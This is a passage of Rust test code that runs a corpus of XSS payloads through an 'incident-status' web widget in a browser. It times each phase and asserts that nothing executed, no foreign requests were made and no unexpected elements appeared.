    let (to_browser, built) = std::sync::mpsc::sync_channel::<(Vec<usize>, Vec<CardCheck>)>(2);
    let mut builder = Some({
        let corpus = corpus.clone();
        std::thread::spawn(move || {
            for round in 0..rounds {
                let cards: Vec<usize> = (0..pairs).map(|pair| (round * pairs + pair) % n).collect();
                let checks = cards.iter().map(|&card| corpus_card_check(&template, &corpus, card, &round_time(round))).collect();
                if to_browser.send((cards, checks)).is_err() {
                    return;
                }
            }
        })
    });
    // Where the time goes: waiting for the card builder, waiting for the widgets, checking them.
    let mut phases = [Duration::ZERO; 5];
    for round in 0..rounds {
        let mut lap = std::time::Instant::now();
        let mut phase = |i: usize| {
            phases[i] += lap.elapsed();
            lap = std::time::Instant::now();
        };
        let time = round_time(round);
        let Ok((cards, checks)) = built.recv() else {
            // The builder stopped: with its panic (an invalid card), if it had one.
            std::panic::resume_unwind(builder.take().unwrap().join().err().unwrap_or_else(|| Box::new("the card builder stopped")));
        };
        *s.cards.lock().unwrap() = checks.iter().map(|c| c.json.clone()).collect();
        phase(0);
        if round == 0 {
            s.browser.goto(&s.server.url(&format!("/corpus.html?pairs={pairs}"))).await;
            s.browser.wait_for(&format!("document.querySelectorAll('incident-status').length === {} && [...document.querySelectorAll('incident-status')].every((h) => h.shadowRoot)", 2 * pairs), WAIT).await;
            s.browser.js(CORPUS_OBSERVE, vec![json!(ALLOWED_TAGS)]).await;
        } else {
            s.browser.js(CORPUS_REFRESH, vec![]).await;
        }
        let what = format!("round {round} (cards {}…{})", cards[0], cards[cards.len() - 1]);
        let state = s.browser.js_async(CORPUS_WAIT_SHOWN, vec![json!(time)]).await;
        assert_eq!(state["shown"], json!(true), "{what}: not every widget showed its card: {state:#}");
        feeds += cards.len();
        phase(1);
        let fields: Vec<Value> = checks.iter().enumerate().flat_map(|(pair, c)| [json!([2 * pair, c.full]), json!([2 * pair + 1, c.compact])]).collect();
        s.check_corpus(&what, json!(fields), &mut tally).await;
        phase(2);
        let queries: Vec<&str> = checks.iter().map(|c| c.query.as_str()).collect();
        let typed = s.browser.js_async(CORPUS_TYPE, vec![json!(queries)]).await;
        assert_eq!(typed["ready"], json!(true), "{what}: the search did not answer: {typed:#}");
        phase(3);
        let searched: Vec<Value> = checks.iter().enumerate().map(|(pair, c)| json!([2 * pair, c.search])).collect();
        s.check_corpus(&format!("{what}, keywords searched"), json!(searched), &mut tally).await;
        phase(4);
        for (&card, check) in cards.iter().zip(&checks) {
            placements += FieldKind::ALL.len();
            found_by_keyword += usize::from(check.finds_entry);
            covered.extend((0..FieldKind::ALL.len()).map(|kind| (corpus_index(card, kind, n), kind)));
        }
    }
    // Time for delayed handlers and loads to fire, once for the whole run:
    // the traps, the observer and the trap server keep what they saw.
    tokio::time::sleep(Duration::from_millis(700)).await;
    s.check_corpus("after the run", json!([]), &mut tally).await;
    let trapped = s.trapped();
    tally.foreign_requests += trapped.len();
    let allowed =
        ["/corpus.html", "/capture.js", "/traps.js", "/incident-status.js", "/incident-status_bg.wasm", "/incident-status.css", "/incident-status-search.wasm"];
    let unexpected: Vec<String> = s
        .server
        .requests()
        .iter()
        .filter(|r| !allowed.contains(&r.route()) && !r.route().starts_with("/card/"))
        .map(|r| format!("{} {}", r.method, r.path))
        .collect();
    println!(
        "xss corpus: {n} payloads × {} fields = {} placements in {feeds} feeds ({rounds} rounds of {pairs} full + {pairs} compact widgets; \
         {} placements repeat to fill the last round), {} texts compared, {found_by_keyword} keywords found their entry, {} executed, {} foreign requests, {} new elements, {:.1} s",
        FieldKind::ALL.len(),
        covered.len(),
        placements - covered.len(),
        tally.compared,
        tally.executed,
        tally.foreign_requests,
        tally.new_elements + tally.observed,
        started.elapsed().as_secs_f64()
    );
    let [native, shown, fields, typed, searched] = phases.map(|d| d.as_secs_f64());
    println!("xss corpus: {native:.1} s waiting for cards, {shown:.1} s until shown, {fields:.1} s checking fields, {typed:.1} s searching, {searched:.1} s checking results");
    assert_eq!(covered.len(), n * FieldKind::ALL.len(), "every payload in every kind of field");
    assert!(trapped.is_empty(), "requests to other hosts: {trapped:?}");
    assert!(unexpected.is_empty(), "unexpected requests: {unexpected:?}");
    assert_eq!((tally.executed, tally.foreign_requests, tally.new_elements + tally.observed), (0, 0, 0));
    s.browser.close().await;
}
